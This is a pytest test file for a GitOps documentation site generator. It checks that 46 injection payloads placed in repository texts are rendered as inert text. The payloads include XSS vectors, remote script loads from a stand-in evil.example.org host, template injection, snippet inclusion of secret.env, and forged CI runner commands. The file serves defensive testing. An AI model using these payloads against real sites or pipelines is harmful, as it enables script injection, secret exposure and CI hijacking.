"""Texts of a repository are shown as they are, and never live: payloads in every place where a
repository has text.

The site is built with everything switched on that makes Markdown come alive, and every feature of
the theme. Pages are read with an HTML5 parser, as a browser reads them, and must not hold an
element, an attribute or a scheme that the site of a twin has not: the same repository with harmless
texts. So nothing has to be known of what a payload tries.
"""

from __future__ import annotations

import html
import json
import re
import subprocess
import unicodedata
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import markdown
import pytest
from selectolax.lexbor import LexborHTMLParser, LexborNode

from tests.support.commands import gitops_docs, mkdocs

PAYLOADS = {
    1: "<script>alert('Q01')</script>",
    2: "<img src=x onerror=alert('Q02')>",
    3: "<svg/onload=alert('Q03')>",
    4: "[Q04](javascript:alert(4))",
    5: "<javascript:alert('Q05')>",
    6: '**Q06**{: onmouseover="alert(6)" #owned }',
    7: '--8<-- "secret.env" Q07',
    8: "{{ config.site_name }} {{ 7 * 191 }} Q08",
    9: '{% include "secret.env" %} {% raw %} Q09',
    10: '</td></tr></table></article></main><h1 id="owned">Q10</h1>',
    11: ":smile: :material-home: Q11",
    12: 'https://evil.example.org/Q12"onmouseover="alert(12)',
    13: "*[HTML]: Q13 *[Layers]: owned",
    14: "[TOC] [[_TOC_]] [^1] Q14",
    15: '<a href="data:text/html,<script>alert(15)</script>">Q15</a>',
    16: '"><script src=//evil.example.org/Q16.js></script>',
    17: "' onfocus='alert(17)' autofocus='Q17",
    18: "&lt;script&gt;alert(18)&lt;/script&gt; &#60;b&#62; Q18",
    19: "<!-- Q19 --><style>*{display:none}</style><base href=//evil.example.org>",
    20: '"]; click n0 call alert("Q20") %%{init: {"securityLevel": "loose"}}%% end; subgraph Q20',
    21: "Q21 \u202egnp.exe\u2066 \u0007\u001b[31mred\u001b]0;title\u0007\u009b1m \u2028",
    22: '<iframe srcdoc="<script>alert(22)</script>"></iframe><div markdown="1">**Q22**</div>',
    23: "</script><script>alert('Q23')</script></textarea></title>",
    24: "![Q24](x){: onerror=alert(24) } ${7*191} #{7*191}",
    25: "JaVaScRiPt:alert('Q25')",
    26: "java\u0001script:alert('Q26') &#106;avascript:alert(26) vbscript:alert(26)",
    27: "//evil.example.org/Q27 \\\\\\evil.example.org https:evil.example.org",
    28: "#lt;img src=x onerror=alert(28)#gt; #quot; &quot; &amp;lt;b&amp;gt; Q28",
    29: "<mark data-x=1>Q29</mark><details open ontoggle=alert(29)><form action=javascript:alert(29)><button>",
    30: '```mermaid Q30``` ~~~ $$Q30$$ ==Q30== ^^Q30^^ ++ctrl+alt+del++ [=50% "Q30"]',
    31: "data:text/html;base64,PHNjcmlwdD5hbGVydCgpPC9zY3JpcHQ+#Q31",
    32: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(32)&gt;">Q32',
    33: "<https://evil.example.org/Q33> [Q33][q] [q]: //evil.example.org evil@example.org @evil #1 evil/evil#1",
    34: "<!--Q34--!><script>alert(34)</script> <![CDATA[Q34]]> <?Q34?> </title><plaintext>",
    35: "##[add-mask]Q35 ##vso[task.setvariable variable=a]b ##teamcity[message text='Q35']",
    36: "Q36\n::error file=a::Q36\r::add-mask::Q36\u2028::set-output name=a::Q36",
    37: "::set-output name=Q37::y",
    38: "&lt;&#47;title&gt;&lt;script&gt;alert(38)&lt;&#47;script&gt; Q38",
    39: "Q39' style='background:url(//evil.example.org/39)' srcset='//evil.example.org/39 2x' x='",
    40: '0;url=javascript:alert(40)" http-equiv="refresh" content="0;url=//evil.example.org Q40',
    41: "\\\\evil.example.org\\Q41 /\\evil.example.org ///evil.example.org",
    42: '{% raw %}{{ "Q42" }}{% endraw %} {# Q42 #} {{ self }} ${{ Q42 }} <%= 7*191 %> <?= 7*191 ?>',
    43: "Q43\n---\n# owned\n\n<script>alert(43)</script>\n\n```\n</code></pre><img src=x onerror=alert(43)>\n```",
    44: "]]>--><svg><animate onbegin=alert(44) attributeName=x><set><use href=data:,Q44></svg>",
    45: "%22%3E%3Cimg src=x onerror=alert(45)%3E %0d%0aQ45: x",
    46: "file:///etc/passwd#Q46 blob:x intent://x ms-word:ofe|u|//evil.example.org",
}
"""By number, so that a page which is wrong says which."""
HARMLESS = {
    number: (
        f"plain-{number}",
        f"Words {number} with `code` in them, see https://plain.example.org/{number}",
        f"https://plain.example.org/{number}?a=b",
        f"plain@example.org/{number}",
    )[number % 4]
    for number in range(1, 9)
}
"""A twin has the same shape; a few texts make all elements that there are."""
FEW = dict(
    enumerate(
        (
            PAYLOADS[number]
            for number in (1, 2, 10, 12, 16, 17, 19, 21, 23, 34, 36, 38, 39, 40, 41, 44)
        ),
        1,
    )
)
"""For themes that print the same values of the same pages in other places."""
NUMBERS = sorted(PAYLOADS)
SHOWN = [number for number in NUMBERS if number not in (36, 43)]
"""Where a text has several lines, each page has its own way to say so."""
COMPUTED = str(7 * 191)
COMMAND = re.compile(r"##\w*\[|^\s*::", re.MULTILINE)
"""What a CI runner obeys."""

SETTINGS = """\
site_name: Injected
repo_url: https://github.com/acme/platform
edit_uri: edit/main/docs/
theme: THEME
plugins: PLUGINS
markdown_extensions:
  - abbr
  - admonition
  - attr_list
  - def_list
  - footnotes
  - md_in_html
  - tables
  - toc: {permalink: true}
  - pymdownx.emoji
  - pymdownx.magiclink: {repo_url_shorthand: true, social_url_shorthand: true, user: evil, repo: evil}
  - pymdownx.snippets: {base_path: ["."], check_paths: false}
  - pymdownx.superfences
  - pymdownx.details
  - pymdownx.caret
  - pymdownx.critic
  - pymdownx.inlinehilite
  - pymdownx.keys
  - pymdownx.mark
  - pymdownx.smartsymbols
  - pymdownx.tabbed: {alternate_style: true}
  - pymdownx.tasklist
  - pymdownx.tilde
  - pymdownx.arithmatex: {generic: true}
"""
MATERIAL = """{name: material, font: false, features: [announce.dismiss, content.action.edit, content.action.view,
  content.code.annotate, content.code.copy, content.code.select, content.tabs.link, content.tooltips, header.autohide,
  navigation.expand, navigation.footer, navigation.indexes, navigation.instant, navigation.instant.prefetch, navigation.path,
  navigation.sections, navigation.tabs, navigation.top, navigation.tracking, search.highlight, search.suggest,
  toc.follow, toc.integrate]}"""
OTHERS = ("mkdocs", "readthedocs")


def settings(theme: str) -> str:
    """A mkdocs.yml for a theme."""
    plugins = "[search, macros, tags, gitops]" if theme == MATERIAL else "[search, macros, gitops]"
    return SETTINGS.replace("THEME", theme).replace("PLUGINS", plugins)


def quoted(text: str) -> str:
    """A text as a YAML scalar; JSON's escapes are YAML's."""
    return json.dumps(text)


def comment(text: str) -> str:
    """A text as far as it can stand in a comment: no line break, and none of what YAML forbids."""
    return "".join(char for char in text if char.isprintable() or char == "\u202e")


Texts = Mapping[int, str]


def layer(texts: Texts, number: int) -> str:
    text, words = quoted(texts[number]), comment(texts[number])
    before = (
        f"    - name: {quoted(texts[number - 1])} # {words}\n"
        if number > 1
        else "    - name: plain\n"
    )
    return f"""\
---
# Above: {words}
apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata:
  name: {text}
  namespace: flux-system
  annotations: {{description: {text}}}
spec:
  interval: {text}
  timeout: {text}
  path: ./apps/{number}
  prune: true # Beside: {words}
  sourceRef: {{kind: GitRepository, name: flux-system}}
  serviceAccountName: {text}
  dependsOn:
{before}  healthChecks: [{{apiVersion: {text}, kind: {text}, name: {text}, namespace: {text}}}]
  healthCheckExprs: [{{apiVersion: {text}, kind: {text}, current: {text}}}]
  postBuild:
    substitute: {{value: {quoted(texts[number].replace("$", ""))}}}
"""


def app(texts: Texts, number: int) -> str:
    text = quoted(texts[number].replace("${", "{"))
    return f"""\
# Release: {comment(texts[number]).replace("${", "{")}
apiVersion: helm.toolkit.fluxcd.io/v2
kind: HelmRelease
metadata: {{name: {text}, namespace: {text}, labels: {{a: {text}, {text}: b}}, annotations: {{{text}: {text}}}}}
spec:
  interval: {text}
  chart: {{spec: {{chart: {text}, version: {text}, sourceRef: {{kind: HelmRepository, name: {text}}}}}}}
  dependsOn: [{{name: {text}}}]
  valuesFrom: [{{kind: ConfigMap, name: {text}, valuesKey: {text}, optional: true}}]
  values: {{{text}: {text}, list: [{text}], used: "${{value}}", missing: "${{missing:=x}}", nothing: ""}}
---
apiVersion: source.toolkit.fluxcd.io/v1
kind: HelmRepository
metadata: {{name: {text}, namespace: {text}}}
spec: {{url: {text}, provider: {text}, secretRef: {{name: {text}}}}}
---
apiVersion: {text}
kind: {text}
metadata: {{name: {text}, namespace: {text}}}
---
apiVersion: apps/v1
kind: Deployment
metadata: {{name: {text}, namespace: {text}}}
spec: {{template: {{spec: {{containers: [{{name: {text}, image: {text}}}]}}}}}}
---
apiVersion: notification.toolkit.fluxcd.io/v1beta3
kind: Provider
metadata: {{name: {text}, namespace: {text}}}
spec: {{type: {text}, channel: {text}, secretRef: {{name: {text}}}}}
---
apiVersion: notification.toolkit.fluxcd.io/v1beta3
kind: Alert
metadata: {{name: {text}, namespace: {text}}}
spec:
  summary: {text}
  eventSeverity: {text}
  providerRef: {{name: {text}}}
  eventMetadata: {{runbook_url: {text}}}
  eventSources: [{{kind: {text}, name: {text}, matchLabels: {{{text}: {text}}}}}]
---
apiVersion: monitoring.coreos.com/v1
kind: PrometheusRule
metadata: {{name: {text}, namespace: {text}}}
spec:
  groups:
    - name: {text}
      rules:
        - alert: {text}
          expr: {text}
          for: {text}
          labels: {{severity: {text}}}
          annotations: {{summary: {text}, description: {text}, runbook_url: {text}, dashboard_url: {text}, {text}: {text}}}
---
apiVersion: v1
kind: Secret
metadata: {{name: {text}, namespace: {text}}}
stringData: {{{text}: secret}}
---
apiVersion: v1
kind: ConfigMap
metadata: {{name: {text}, namespace: {text}}}
data: {{{text}: {text}}}
---
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {{name: {text}}}
spec: {{group: {text}, names: {{kind: {text}, plural: {text}}}, versions: [{{name: {text}}}]}}
"""


def written(texts: Texts, number: int) -> str:
    """A hand-written page with a text in each place of its front matter. Its Markdown is its
    author's, and plain here."""
    text = quoted(texts[number])
    return f"""\
---
title: {text}
subtitle: {text}
description: {text}
author: {text}
tags: [{text}]
status: {text}
location: {text}
search: {{exclude: {text}, boost: {text}}}
alerts: [{text}]
applies_to: [{quoted(f"layer:{texts[number]}")}, {text}]
owner: {text}
severity: {text}
replaced_by: {text}
last_reviewed: {text}
{text}: {text}
---
# A page

Words.
"""


@dataclass(frozen=True, slots=True)
class Built:
    root: Path
    site: Path
    log: str


def file_name(texts: Texts, number: int) -> str:
    return "".join(char for char in texts[number] if char not in "/\0")[:100]


def make(root: Path, texts: Texts) -> Path:
    """A repository with every text in every place."""
    first = texts[1]
    files = {
        "mkdocs.yml": settings(MATERIAL),
        **{f"mkdocs-{theme}.yml": settings(theme) for theme in OTHERS},
        ".gitops-docs.yaml": f"""\
contexts: {{{quoted(first)}: {quoted(first)}, prod: {quoted(first)}}}
variables: [{quoted(first)}]
redirects: {{old.html: {quoted(texts[4])}, older/: {quoted(texts[5])}, {quoted(file_name(texts, 6))}: platform/}}
""",
        "secret.env": "CANARY-SNIPPET\n",
        "docs/index.md": "# Home\n\n```gitops-graph\ncluster: prod\n```\n\n```gitops-components\n```\n\n```gitops-alerts\n```\n",
        **{f"docs/pages/{file_name(texts, number)}.md": "Words.\n" for number in texts},
        **{f"docs/{file_name(texts, number)}/page.md": "# Page\n" for number in list(texts)[:8]},
        **{f"docs/runbooks/{number}.md": written(texts, number) for number in texts},
        "CODEOWNERS": "".join(
            f"/apps/{number}/ @{texts[number].split(' ')[0]}\n" for number in texts
        ),
        "clusters/prod/layers.yaml": "".join(layer(texts, number) for number in texts)
        + layer(texts, 1).replace(quoted(first), "plain")
        + layer(texts, 1).replace(quoted(first), "asleep").replace("prune: true", "suspend: true"),
        "apps/1/README.md": f"# {comment(texts[7])}\n\n{comment(texts[8])}\n",
        "clusters/prod/flux-system/gotk-sync.yaml": """\
apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: flux-system, namespace: flux-system}
spec: {interval: 1m, url: "javascript:alert(1)"}
---
apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata: {name: flux-system, namespace: flux-system}
spec: {interval: 10m, path: ./clusters/prod, prune: true, sourceRef: {kind: GitRepository, name: flux-system}}
""",
        **{
            f"apps/{number}/{file_name(texts, number)}.yaml": app(texts, number) for number in texts
        },
        **{f"stray/{file_name(texts, number)}.yaml": app(texts, number) for number in texts},
        **{f"broken/{file_name(texts, number)}/a.yaml": "a: [\n" for number in texts},
        **{
            f"bases/{number}/kustomization.yaml": f"resources: [{quoted(text)}, {quoted('https://example.org/' + text)}]\n"
            for number, text in texts.items()
        },
    }
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content, encoding="utf-8")
    branch = re.sub(r"[^a-z<>\"'=()-]", "", first)
    subprocess.run(["git", "init", "-q", "-b", branch], cwd=root, check=True)
    subprocess.run(
        ["git", "remote", "add", "origin", "https://github.com/acme/platform.git"],
        cwd=root,
        check=True,
    )
    subprocess.run(["git", "add", "."], cwd=root, check=True)
    identity = {"GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@b"}
    for number in texts:
        command = ["git", "commit", "-q", "--allow-empty", "-m", texts[number]]
        author = texts[number].replace("<", "\uff1c").replace(">", "\uff1e").replace("\n", " ")
        subprocess.run(
            command,
            cwd=root,
            check=True,
            env={**identity, "GIT_AUTHOR_NAME": author, "PATH": "/usr/bin:/bin"},
        )
        (root / f"apps/{number}/touched.txt").write_text("x")
        subprocess.run(["git", "add", "."], cwd=root, check=True)
    return root


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The repository of the payloads."""
    return make(tmp_path_factory.mktemp("injection") / "repository", PAYLOADS)


@pytest.fixture(scope="module")
def twin(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The same of harmless texts."""
    return make(tmp_path_factory.mktemp("injection-twin") / "repository", HARMLESS)


@pytest.fixture(scope="module")
def built(hostile: Path, tmp_path_factory: pytest.TempPathFactory) -> Built:
    """Its site, and the log of the build."""
    site = tmp_path_factory.mktemp("injection-site") / "site"
    done = gitops_docs("build", str(hostile), "--site-dir", str(site))
    return Built(hostile, site, done.stdout + done.stderr)


@pytest.fixture(scope="module")
def pages(built: Built) -> dict[str, LexborHTMLParser]:
    """Every page of the site, parsed."""
    return {
        path.relative_to(built.site).as_posix(): LexborHTMLParser(path.read_text(encoding="utf-8"))
        for path in sorted(built.site.rglob("*.html"))
    }


def live(tree: LexborHTMLParser) -> Iterator[str]:
    """What a browser would run or load because of a payload, or what has left its place."""
    root = tree.root
    assert root is not None
    node: LexborNode | None
    for node in root.traverse(include_text=False):
        shown = (node.html or "")[:200]
        if node.tag in ("iframe", "object", "embed", "frame", "applet", "base"):
            yield shown
        if node.tag in ("script", "style") and re.search(
            r"Q\d\d|alert\(|display:none}", node.text() or ""
        ):
            yield shown
        for name, value in node.attributes.items():
            value = value or ""
            if name.startswith("on") or name in ("srcdoc", "autofocus"):
                yield shown
            if name in (
                "href",
                "src",
                "action",
                "formaction",
                "xlink:href",
                "data",
                "poster",
                "content",
            ):
                scheme = (
                    urlsplit(re.sub(r"[\x00-\x20]", "", value)).scheme
                    if not value.startswith("width=")
                    else ""
                )
                if name != "content" and scheme not in ("", "http", "https", "mailto"):
                    yield shown
                host = urlsplit(value.replace("\\", "/")).netloc
                if node.tag in ("script", "img", "link") and "evil.example.org" in host:
                    yield shown
            if name == "id" and value == "owned":
                yield shown
        if node.tag == "img" and node.attributes.get("src") == "x":
            yield shown


ADDRESSES = frozenset(
    [
        "href",
        "src",
        "action",
        "formaction",
        "xlink:href",
        "data",
        "poster",
        "srcset",
        "cite",
        "background",
        "ping",
    ]
)
LOADED = frozenset(["script", "img", "link", "iframe", "source", "object", "embed", "form"])


def kinds(site: Path) -> dict[tuple[str, ...], str]:
    """What the pages of a site are made of, each with a page that has it: elements, attributes,
    schemes of addresses, hosts that something is loaded from, properties of styles, and what `<meta
    http-equiv>` asks for."""
    found: dict[tuple[str, ...], str] = {}
    for path in sorted(site.rglob("*.html")):
        here = path.relative_to(site).as_posix()[:80]
        root = LexborHTMLParser(path.read_text(encoding="utf-8")).root
        assert root is not None
        for node in root.traverse(include_text=False):
            tag = node.tag or ""
            found.setdefault((tag,), here)
            if tag in ("script", "style"):
                # How it begins; an element of a payload would swallow those behind it.
                found.setdefault((tag, "text", (node.text() or "").strip()[:12]), here)
            for name, value in node.attributes.items():
                found.setdefault((tag, name), here)
                value = value or ""
                if name in ADDRESSES:
                    parts = urlsplit(re.sub(r"[\x00-\x20]", "", value).replace("\\", "/"))
                    host = parts.netloc if tag in LOADED or not parts.scheme else ""
                    found.setdefault((tag, name, f"{parts.scheme}:", host), here)
                elif name == "style":
                    for rule in value.split(";"):
                        found.setdefault(
                            (
                                tag,
                                name,
                                rule.partition(":")[0].strip(),
                                "url" if "url" in rule else "",
                            ),
                            here,
                        )
                elif name == "http-equiv":
                    target = (node.attributes.get("content") or "").partition("url=")[2]
                    found.setdefault(
                        (tag, name, value, urlsplit(target).scheme, urlsplit(target).netloc), here
                    )
    return found


@pytest.fixture(scope="module")
def sites(
    twin: Path, built: Built, tmp_path_factory: pytest.TempPathFactory
) -> dict[str, tuple[Path, Path]]:
    """For each theme the site of the payloads, and that of the twin."""
    base = tmp_path_factory.mktemp("injection-sites")
    few = make(base / "repository", FEW)
    found = {}
    for theme in OTHERS:
        for root, name in ((few, f"{theme}-hostile"), (twin, f"{theme}-twin")):
            done = mkdocs(
                "build", "-q", "-f", f"mkdocs-{theme}.yml", "-d", str(base / name), cwd=root
            )
            assert not COMMAND.search(done.stdout + done.stderr)
        found[theme] = base / f"{theme}-hostile", base / f"{theme}-twin"
    gitops_docs("build", str(twin), "--site-dir", str(base / "material"))
    return {"material": (built.site, base / "material"), **found}


@pytest.mark.parametrize("theme", ["material", *OTHERS])
def test_no_text_is_markup(sites: dict[str, tuple[Path, Path]], theme: str) -> None:
    """A site of payloads is made of what the site of harmless texts is made of, in every theme."""
    site, harmless = sites[theme]
    known, found = kinds(harmless), kinds(site)
    assert len(list(site.rglob("*.html"))) > 5 * len(FEW) and len(known) > 100
    assert {kind: page for kind, page in found.items() if kind not in known} == {}


def test_pages_are_harmless(pages: dict[str, LexborHTMLParser]) -> None:
    """No page has a script, handler, frame or address of a payload, and none has lost its frame."""
    assert len(pages) > 5 * len(NUMBERS)
    assert {page: found for page, tree in pages.items() if (found := sorted(set(live(tree))))} == {}
    for page, tree in pages.items():
        if (
            tree.css_first("title").text() == "Moved"
        ):  # One of ours for an old address, without the theme.
            continue
        article = tree.css("article.md-content__inner")
        assert len(article) == 1, page
        if page.startswith("platform/"):
            assert len(tree.css("h1")) == 1, page
            assert len(tree.css("article .gitops")) >= 1, page


def test_payloads_are_shown(pages: dict[str, LexborHTMLParser]) -> None:
    """Each payload stands on some page, letter by letter but for control characters."""
    texts = [
        re.sub(r"\s+", " ", tree.body.text()) for tree in pages.values() if tree.body is not None
    ]
    for number in SHOWN:
        wanted = re.sub(
            r"\s+",
            " ",
            re.sub("[\x00-\x1f\x7f-\x9f\u2028\u202e\u2066]", "\ufffd", PAYLOADS[number]),
        ).strip()
        assert any(wanted in text for text in texts), wanted


def test_nothing_is_evaluated(built: Built) -> None:
    """No snippet was included, no macro and no arithmetic evaluated, no emoji, footnote or
    abbreviation made."""
    for path in sorted(built.site.rglob("*")):
        if path.suffix in (".html", ".json", ".xml"):
            text = path.read_text(encoding="utf-8")
            assert "CANARY-SNIPPET" not in text, path
            if path.is_relative_to(built.site / "platform"):
                assert COMPUTED not in re.sub(r"\d{5,}|[0-9a-f]{8,}", "", text), path
                assert (
                    "<abbr" not in text
                    and 'class="twemoji" title' not in text
                    and "footnote" not in text
                ), path


def test_controls_are_gone(built: Built) -> None:
    """Neither pages nor JSON have control characters, or such as turn the direction of text."""
    for path in sorted(built.site.rglob("*")):
        if path.suffix in (".html", ".json", ".xml") and "assets" not in path.parts:
            text = path.read_text(encoding="utf-8")
            assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text), (
                path
            )


def test_search_index(built: Built) -> None:
    """The search shows its entries as HTML: none is live."""
    index = json.loads((built.site / "search" / "search_index.json").read_text(encoding="utf-8"))
    for entry in index["docs"]:
        for text in (entry["title"], entry["text"], *entry.get("tags", [])):
            tree = LexborHTMLParser(f"<body><p>{text}</p></body>")
            assert not list(live(tree)), entry
            assert not re.search(
                r"<(?!/?(?:p|ul|ol|li|h\d|pre|code|table|t[rhdb]\w*|em|strong|dl|dt|dd|mark|br|kbd|del|sup|sub)\b)",
                text,
            ), entry


def test_json_can_stand_in_html(built: Built) -> None:
    """The inventory has no character that HTML knows."""
    text = (built.site / "gitops" / "inventory.json").read_text(encoding="utf-8")
    assert not set("<>&") & set(text)
    assert PAYLOADS[1] in {layer["name"] for layer in json.loads(text)["layers"]}


def test_diagrams(pages: dict[str, LexborHTMLParser]) -> None:
    """Every line of a diagram is one that we write: no name leaves its quotes."""
    line = re.compile(
        r"\s*(?:%%\{init: \{\"flowchart\": \{[\w\": ,]*\}\}\}%%|flowchart (?:TB|LR)|acc(?:Title|Descr): [^;{}%]*"
        r"|n\d+(?:\[\"[^\"<>]*\"\]|\(\[\"[^\"<>]*\"\]\))(?::::\w+)?|click n\d+ href \"[\w./#?=&%-]*\"(?: \"[^\"<>]*\")?"
        r"|n\d+ (?:-->|-\.->) n\d+|classDef \w+ [\w:#,\s-]+)?\Z"
    )
    drawn = [node.text() for tree in pages.values() for node in tree.css("pre.mermaid")]
    assert len(drawn) > len(NUMBERS)
    for source in drawn:
        for text in (source or "").split("\n"):
            assert line.match(text), text


@pytest.mark.parametrize(
    "command",
    [
        ["tree"],
        ["check"],
        ["check", "--format", "github"],
        ["check", "--format", "sarif"],
        ["check", "--format", "json"],
        ["inventory"],
        ["graph", "--format", "text"],
        ["graph", "--format", "dot"],
        ["graph", "--format", "mermaid"],
        *(["render", PAYLOADS[number]] for number in (1, 20, 21, 35, 36, 37)),
        ["render", "no such layer \u001b[31m\n::error::x"],
        ["diff", "HEAD~3", "HEAD"],
        ["diff", "##[error]\n::error::x"],
        ["init", "--dry-run"],
        ["no such command\n::error::x"],
    ],
    ids=lambda command: html.escape(" ".join(command))[:20].encode("ascii", "replace").decode(),
)
def test_terminal(built: Built, command: list[str]) -> None:
    """No control character of a manifest reaches the terminal."""
    done = gitops_docs(command[0], str(built.root), *command[1:], status=None)
    for text in (done.stdout, done.stderr, built.log):
        assert not [
            char
            for char in text
            if char != "\n" and unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp", "Cs")
        ], text[:300]
        assert not text.count("##[") and not re.search(r"##\w*\[", text)
    if command[0] == "check" and "github" in command:
        annotation = r"::(error|warning|notice) (?:\w+=[^,:]*(?:,\w+=[^,:]*)*)::.*"
        assert all(re.fullmatch(annotation, row) for row in done.stdout.splitlines())
        assert not COMMAND.search(done.stderr)
    else:
        assert not COMMAND.search(done.stdout + done.stderr)


@pytest.mark.parametrize(
    "command", [["inventory"], ["check", "--format", "json"], ["graph", "--format", "json"]]
)
def test_data_say_what_is_meant(built: Built, command: list[str]) -> None:
    """What would be a command is an escape of the same text, so programs read names as they are."""
    found = gitops_docs(command[0], str(built.root), *command[1:], status=None).stdout
    said = json.dumps(json.loads(found), ensure_ascii=False)
    assert "##[add-mask]Q35" in said and "\\n::error file=a::Q36" in said


def test_sarif_has_addresses(built: Built) -> None:
    """Each place in SARIF is a relative URI, whatever the file is called."""
    log = json.loads(gitops_docs("check", str(built.root), "--format", "sarif", status=None).stdout)
    found = {
        place["physicalLocation"]["artifactLocation"]["uri"]
        for result in log["runs"][0]["results"]
        for place in result["locations"]
    }
    assert len(found) > len(NUMBERS)
    for uri in found:
        assert re.fullmatch(r"[A-Za-z0-9._~/!$&()*+,;=@%-]+", uri) and not uri.startswith("//"), uri


def test_exported_pages_and_comparisons_are_text(built: Built, tmp_path: Path) -> None:
    """Markdown that other programs convert has the elements of ours only: exported pages, the
    comment on a pull request, first runbooks."""
    gitops_docs(
        "export",
        str(built.root),
        str(tmp_path / "out"),
        "--config",
        str(tmp_path / "mkdocs.yml"),
        status=None,
    )
    known = {kind[0] for kind in kinds(built.site)} | {"wbr"}
    for path in sorted((tmp_path / "out").rglob("*.md"))[::7]:
        made = markdown.markdown(
            path.read_text(encoding="utf-8").partition("\n---\n")[2],
            extensions=["attr_list", "md_in_html", "tables"],
        )
        assert not list(live(LexborHTMLParser(f"<body>{made}</body>"))), path
        assert {node.tag for node in LexborHTMLParser(f"<body>{made}</body>").css("*")} <= known, (
            path
        )
    said = gitops_docs("diff", str(built.root), "HEAD~9", "HEAD").stdout
    made = markdown.markdown(said, extensions=["tables", "md_in_html"])
    tree = LexborHTMLParser(f"<body>{made}</body>")
    ours = {"h2", "h3", "p", "code", "ul", "li", "details", "summary", "blockquote", "strong", "em"}
    assert {node.tag for node in tree.css("body *")} <= ours | {
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    }
    assert not list(live(tree))
